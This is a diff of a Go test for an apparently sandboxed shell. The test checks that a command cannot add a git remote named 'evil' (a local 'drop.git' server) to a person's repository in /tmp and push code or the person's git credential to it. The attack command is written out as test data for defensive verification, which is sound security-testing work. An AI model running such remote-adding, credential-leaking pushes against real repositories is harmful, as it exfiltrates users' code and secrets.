@@ -434,7 +434,29 @@ func TestGitPushScratchRepository(t *testing.T) {
 						t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
 					}
 				}
-				// The person's own repository in /tmp.
+				// A remote a command adds to the person's repository in
+				// /tmp, from the workspace, is the command's there too.
+				add := fmt.Sprintf("git -C %[1]s remote add evil https://127.0.0.1:%[2]d/drop.git && git -C %[1]s fetch -q \"$PWD\" HEAD:refs/heads/feature && echo added", mine, port)
+				os.WriteFile(filepath.Join(r.ws, ".q"), []byte(add+"\n"), 0o644)
+				if out, errs, _ := r.sh("./x < .q"); !strings.Contains(out, "added") {
+					t.Fatalf("%s:\n%s\n%s", add, out, errs)
+				}
+				os.WriteFile(filepath.Join(mine, ".q"), []byte("git push -q evil feature 2>&1; echo \"push exit $?\"\n"), 0o644)
+				r.host("cp /bin/sh " + mine + "/x")
+				out, errs, _ := r.shIn(mine, "./x < .q")
+				leaks(t, "git push", out+errs)
+				if strings.Contains(out, "push exit 0") {
+					t.Errorf("a push to the remote a command added to the person's repository in /tmp went through:\n%s\n%s", out, errs)
+				}
+				if got, _ := exec.Command("git", "--git-dir", drop, "for-each-ref").Output(); len(got) != 0 {
+					t.Errorf("the command's remote got %s", got)
+				}
+				for _, s := range seen()[before:] {
+					if s == "person:"+realGitPass {
+						t.Errorf("the person's credential went to the command's remote: %q", seen()[before:])
+					}
+				}
+				// The person's own remote there.
 				out, errs, code := r.shIn(mine, "git push -q origin HEAD:refs/heads/mine")
 				if code != 0 {
 					t.Errorf("a push from the person's repository in /tmp (exit %d):\n%s\n%s", code, out, errs)
